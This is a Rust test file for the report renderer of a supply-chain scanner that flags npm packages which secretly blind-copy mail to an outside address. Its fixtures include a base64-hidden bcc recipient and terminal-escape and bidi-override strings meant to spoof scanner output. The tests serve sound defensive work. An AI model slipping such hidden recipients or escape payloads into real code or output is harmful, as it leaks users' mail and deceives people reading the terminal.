//! The human report, as it is read.

use std::time::Duration;

use molehunt_model::{PackageSummary, PolicySummary, ScanReport, Severity, SkipReason, Unanalysed, UnanalysedReason};
use molehunt_report::{Selection, Style};
use molehunt_source::PackageId;
use unicode_width::UnicodeWidthStr;

mod support;

use support::{COURIER, Fixture, courier, human, mail, path};

#[test]
fn the_incident() {
    let fixture = courier();
    let finding = fixture.hidden_recipient();
    let mut report = fixture.report(vec![finding]);
    report.elapsed = Duration::from_millis(1_234);
    insta::assert_snapshot!(human(&report, &Style::default(), &Selection::default()));
}

#[test]
fn the_incident_in_ascii_on_forty_columns() {
    let fixture = courier();
    let finding = fixture.hidden_recipient();
    let report = fixture.report(vec![finding]);
    let style = Style { width: 40, unicode: false, ..Style::default() };
    let text = human(&report, &style, &Selection::default());
    assert!(text.is_ascii());
    assert_fits(&text, 40);
    insta::assert_snapshot!(text);
}

#[test]
fn a_trace_through_two_files() {
    let fixture = Fixture::new(
        "postbox",
        "2.1.0",
        &[
            (
                "lib/send.js",
                "export function send(mail) {\n  return transport.sendMail({ ...defaults, ...mail });\n}\n",
            ),
            ("lib/defaults.js", "export const defaults = {\n  bcc: atob('YXJjaGl2ZUBtYWlscm9vbS5leGFtcGxl'),\n};\n"),
        ],
    );
    let mut finding = fixture.finding(
        "hidden-recipient",
        Severity::Critical,
        "lib/defaults.js",
        "'YXJjaGl2ZUBtYWlscm9vbS5leGFtcGxl'",
        "every mail is also sent to archive@mailroom.example",
    );
    finding.trace = vec![
        fixture.step("lib/defaults.js", "'YXJjaGl2ZUBtYWlscm9vbS5leGFtcGxl'", "the address is encoded here"),
        fixture.step("lib/defaults.js", "atob('YXJjaGl2ZUBtYWlscm9vbS5leGFtcGxl')", "it is decoded here"),
        fixture.step("lib/send.js", "...defaults", "it joins the message here"),
        fixture.step("lib/send.js", "transport.sendMail({ ...defaults, ...mail })", "the mail is sent here"),
    ];
    finding.reachable = false;
    let report = fixture.report(vec![finding]);
    let style = Style { quiet: true, ..Style::default() };
    insta::assert_snapshot!(human(&report, &style, &Selection::default()));
}

#[test]
fn nothing_found() {
    let mut report = ScanReport::default();
    let id =
        |name: &str| PackageId { name: name.into(), version: "1.0.0".into(), path: format!("node_modules/{name}") };
    for name in ["a", "b"] {
        report.packages.push(PackageSummary { id: id(name), files: 3, analysed: 2, findings: 0 });
    }
    report.coverage.files = 8_431;
    report.coverage.bytes = 41_234_567;
    report.coverage.analysed = 2_310;
    report.coverage.skipped.insert(SkipReason::NotCode, 4_218);
    report.coverage.skipped.insert(SkipReason::NoChannel, 1_900);
    for number in 0..12 {
        report.coverage.unanalysed.push(Unanalysed {
            package: id("a"),
            file: path(&format!("dist/bundle{number}.js")),
            reason: UnanalysedReason::TooLarge,
            detail: "12.1 MB, the limit is 10 MB".into(),
        });
    }
    report.policy = PolicySummary {
        file: Some("molehunt.toml".into()),
        silenced: 2,
        unmatched: vec!["molehunt.toml:4: allow `hardcoded-bcc` in `gone` matched nothing".into()],
        expired: vec!["molehunt.toml:9: allow `fixed-recipient` in `a` expired on 2024-01-01".into()],
    };
    let selection =
        Selection { withheld: [(Severity::Info, 14)].into(), configuration_inside_audit: true, ..Selection::default() };
    insta::assert_snapshot!(human(&report, &Style::default(), &selection));
}

#[test]
fn a_withheld_failure_is_still_a_failure() {
    let fixture = courier();
    let finding = fixture.hidden_recipient();
    let mut report = fixture.report(vec![finding]);
    report.findings[0].severity = Severity::Medium;
    let mut selection = Selection { min_severity: Severity::High, fail_on: Severity::Low, ..Selection::default() };
    selection.withhold(&mut report);
    insta::assert_snapshot!(human(&report, &Style::default(), &selection));
}

#[test]
fn many_findings_of_one_rule_stay_readable() {
    let source: String =
        (0..200).map(|number| format!("send({{ bcc: 'box{number:03}@mailroom.example' }});\n")).collect();
    let fixture = Fixture::new("noisy", "1.0.0", &[("index.js", &source)]);
    let findings = (0..200)
        .map(|number| {
            let address = format!("box{number:03}@mailroom.example");
            let message = format!("a blind copy goes to {address}");
            let mut finding = fixture.finding("hardcoded-bcc", Severity::High, "index.js", &address, &message);
            finding.destination = Some(mail(&address));
            finding.remediation = vec!["Remove it.".into()];
            finding
        })
        .collect();
    let text = human(&fixture.report(findings), &Style::default(), &Selection::default());
    assert_eq!(text.matches("╭─[").count(), 3);
    assert_eq!(text.matches("Remove it.").count(), 1);
    assert!(text.contains("hardcoded-bcc (confidence high), 200 times"), "{text}");
    assert!(text.contains("index.js:28:14 a blind copy goes to box027@mailroom.example"), "{text}");
    assert!(text.contains("and 172 more of these: --format json lists them all"), "{text}");
    assert!(text.lines().count() < 80, "{text}");
}

#[test]
fn a_minor_rule_in_many_packages_is_drawn_a_few_times_only() {
    let mut report = ScanReport::default();
    for number in 0..200 {
        let fixture = Fixture::new(&format!("package{number:03}"), "1.0.0", &[("index.js", COURIER)]);
        let literal = "'archive@mailroom.example'";
        let mut finding =
            fixture.finding("fixed-recipient", Severity::Medium, "index.js", literal, "a fixed recipient");
        finding.why = "Somebody should look.".into();
        let one = fixture.report(vec![finding]);
        report.findings.extend(one.findings);
        report.packages.extend(one.packages);
    }
    let text = human(&report, &Style::default(), &Selection::default());
    assert_eq!(text.matches("Somebody should look.").count(), 3);
    assert!(text.contains("node_modules/package199/index.js:4:8 a fixed recipient"), "{text}");
    assert!(text.lines().count() < 900, "{}", text.lines().count());
}

#[test]
fn two_rules_at_one_place_share_a_frame_and_inventory_is_a_table() {
    let fixture = courier();
    let literal = "'archive@mailroom.example'";
    let mut findings = vec![
        fixture.finding("fixed-recipient", Severity::Medium, "index.js", literal, "a fixed recipient"),
        fixture.finding("hardcoded-bcc", Severity::Low, "index.js", literal, "a blind copy"),
    ];
    for (text, message) in [("client.sendEmail", "sends mail"), ("sendEmail(emailData)", "sends mail again")] {
        let mut finding = fixture.finding("mail-sender", Severity::Info, "index.js", text, message);
        finding.destination = Some(mail("api.postmarkapp.com"));
        findings.push(finding);
    }
    findings.push(fixture.finding("no-destination", Severity::Info, "index.js", "client", "something"));
    let report = fixture.report(findings);
    let selection = Selection { min_severity: Severity::Info, ..Selection::default() };
    insta::assert_snapshot!(human(&report, &Style::default(), &selection));
}

#[test]
fn colour_changes_no_letter() {
    let fixture = courier();
    let finding = fixture.hidden_recipient();
    let report = fixture.report(vec![finding]);
    for width in [40, 80, 140] {
        let plain = Style { width, ..Style::default() };
        let coloured = human(&report, &Style { color: true, ..plain.clone() }, &Selection::default());
        assert!(coloured.contains("\x1b["));
        assert_eq!(strip_colours(&coloured), human(&report, &plain, &Selection::default()));
    }
}

/// Everything that a package can name, it names badly.
#[test]
fn hostile_text_is_shown_not_obeyed() {
    let source = "\u{202E}/*\u{200B}\u{9b}2J*/ send({ bcc: '\x1b]0;owned\x07evil@mailroom.example\x1b[2K' });\n\tnext\u{E0041}();\n";
    let mut fixture = Fixture::new("evil", "1.0.0", &[("a\x1b[31m.js", source)]);
    fixture.id.name = "evil\x1b[2J\u{202E}".into();
    fixture.id.path = "node_modules/evil\r\n✓ nothing found".into();
    let literal = "'\x1b]0;owned\x07evil@mailroom.example\x1b[2K'";
    let mut finding = fixture.finding(
        "hidden-recipient",
        Severity::Critical,
        "a\x1b[31m.js",
        literal,
        "sends to \x1b[1A\x1b[2Kyou\nnow",
    );
    finding.destination = Some(mail("evil@mailroom.example\x1b[0m"));
    finding.mcp_tool = Some("tool\u{2066}".into());
    finding.data = vec!["env:\x1b[5m".into()];
    finding.trace = vec![fixture.step("a\x1b[31m.js", literal, "label \u{7f}\u{85}")];
    let mut report = fixture.report(vec![finding]);
    report.coverage.unanalysed.push(Unanalysed {
        package: report.packages[0].id.clone(),
        file: path("b\x1b[1m.js"),
        reason: UnanalysedReason::ParseError,
        detail: "unexpected \x1b[7m".into(),
    });
    for style in
        [Style { width: 40, ..Style::default() }, Style::default(), Style { unicode: false, ..Style::default() }]
    {
        let text = human(&report, &style, &Selection::default());
        assert_eq!(text.chars().find(|character| is_dangerous(*character)), None, "{text:?}");
    }
    let text = human(&report, &Style { quiet: true, ..Style::default() }, &Selection::default());
    insta::assert_snapshot!(text);
}

/// miette would panic here: its format width is a `u16`.
#[test]
fn a_megabyte_on_one_line() {
    let call = "e.sendMail({to:t,bcc:\"archive@mailroom.example\",text:n})";
    let source = format!("{}{call}{}", "x=1;".repeat(225_000), ";y=2".repeat(25_000));
    let fixture = Fixture::new("bundle", "1.0.0", &[("dist/index.js", &source)]);
    let mut finding = fixture.finding(
        "hidden-recipient",
        Severity::Critical,
        "dist/index.js",
        "\"archive@mailroom.example\"",
        "a blind copy",
    );
    finding.trace = vec![
        fixture.step("dist/index.js", "x=1;", "the beginning"),
        fixture.step("dist/index.js", "\"archive@mailroom.example\"", "the address"),
        fixture.step("dist/index.js", call, "the call"),
    ];
    assert!(finding.span.start.column > 900_000);
    let report = fixture.report(vec![finding]);
    for (width, unicode) in [(30, true), (40, false), (40, true), (80, false), (200, true)] {
        let style = Style { width, unicode, ..Style::default() };
        assert_fits(&human(&report, &style, &Selection::default()), width);
    }
    let text = human(&report, &Style { quiet: true, ..Style::default() }, &Selection::default());
    insta::assert_snapshot!(text);
}

/// Whatever the places and the width: no panic, and no line wider than the terminal.
#[test]
fn every_place_and_width_can_be_drawn() {
    let source = "a\u{301}メール = '\u{202E}😀';\r\n\n\t\tsend({ bcc: 'x' }, `\nlong\u{2028}lines`)\n  \u{a0}\n            end(a, b, c, d, e, f)";
    let ends: Vec<usize> = (0..=source.len()).filter(|offset| source.is_char_boundary(*offset)).collect();
    for (index, start) in ends.iter().enumerate() {
        for end in ends[index..].iter().step_by(5) {
            for (width, unicode) in [(30, true), (42, false)] {
                let fixture = Fixture::new("p", "1", &[("i.js", source)]);
                let mut finding = fixture.finding("r", Severity::High, "i.js", "bcc", "m");
                let mut step = fixture.step("i.js", "send({ bcc: 'x' }", "first");
                step.span = fixture.span("i.js", &source[*start..*end]);
                finding.span = fixture.span("i.js", &source[*start..]);
                finding.trace = vec![step, fixture.step("i.js", "'x'", "second")];
                let style = Style { width, unicode, quiet: true, ..Style::default() };
                assert_fits(&human(&fixture.report(vec![finding]), &style, &Selection::default()), width);
            }
        }
    }
}

#[test]
fn a_place_without_source_is_still_named() {
    let finding = courier().hidden_recipient();
    let report = Fixture::new("courier-mcp", "1.0.16", &[]).report(vec![finding]);
    let text = human(&report, &Style { quiet: true, ..Style::default() }, &Selection::default());
    assert!(text.contains("1: the address is written here at node_modules/courier-mcp/index.js:4:8"), "{text}");
    assert!(COURIER.contains("Bcc"));
}

fn assert_fits(text: &str, width: usize) {
    for line in text.lines() {
        assert!(line.width() <= width, "{} columns, not {width}: {line}\n{text}", line.width());
    }
}

fn is_dangerous(character: char) -> bool {
    (character.is_control() && character != '\n')
        || matches!(character, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{E0000}'..='\u{E007F}')
}

fn strip_colours(text: &str) -> String {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('\x1b') {
        plain.push_str(before);
        rest = after.split_once('m').map_or("", |(_, rest)| rest);
    }
    plain + rest
}
